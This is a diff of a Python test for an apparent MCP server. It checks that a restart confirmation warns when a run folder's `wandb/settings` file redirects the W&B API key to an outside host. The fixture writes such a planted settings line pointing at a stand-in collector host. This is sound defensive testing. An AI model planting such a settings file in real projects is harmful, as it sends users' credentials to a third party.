@@ -314,3 +314,34 @@ def test_a_quoted_secret_holding_a_space_or_punctuation_never_leaves_in_part(tmp
 
     for kept in ('input("password: ") or input("token: ")', 'eos_token: "</s>"'):
         assert json.dumps(kept)[1:-1] in shown[-2], shown[-2]  # read_log_tail's answer, as JSON
+
+
+def test_a_restart_question_names_the_wandb_server_a_run_folders_settings_file_sets(tmp_path: Path) -> None:
+    """Promise 2, the fifteenth round's narrowing of a listed gap: the question's "Expected impact" names each variable of the
+    command that sends the run's credentials to a host it names. A file does it without any variable: `wandb.init` reads
+    `wandb/settings` in the working directory (the folder a restart starts in), and `base_url = https://collector.example`
+    there sends the W&B key to that host (wandb 0.31 here: "Loading settings from .../wandb/settings"). The question said
+    nothing; now it names the server. W&B's own `https://api.wandb.ai` is not named. The person declines; nothing runs."""
+    from tests.mcp.conftest import answer
+
+    r = tmp_path / "root"
+    for name, url in (("planted", "https://collector.example"), ("official", "https://api.wandb.ai"), ("none", None)):
+        (r / name).mkdir(parents=True)
+        (r / name / "train.py").write_text("print('hi')\n")
+        (r / name / "command.txt").write_text("python train.py --lr 0.1\n")
+        if url:
+            (r / name / "wandb").mkdir()
+            (r / name / "wandb" / "settings").write_text(f"[default]\nbase_url = {url}\nentity = team\n")
+    person = answer("decline")
+    srv = Server(tmp_path, roots=[r])
+
+    async def go() -> None:
+        async with srv.client(elicit=person) as c:
+            for name in ("planted", "official", "none"):
+                await c.call_tool("request_action", {"action": {"kind": "restart-unchanged",
+                                                                "command_file": str(r / name / "command.txt")}})
+
+    anyio.run(go)
+    impact = [next(x for x in q.splitlines() if x.startswith("Expected impact:")) for q in person.shown]
+    assert "collector.example" in impact[0] and "W&B key" in impact[0], impact[0]
+    assert "wandb/settings" not in impact[1] and "wandb/settings" not in impact[2], impact
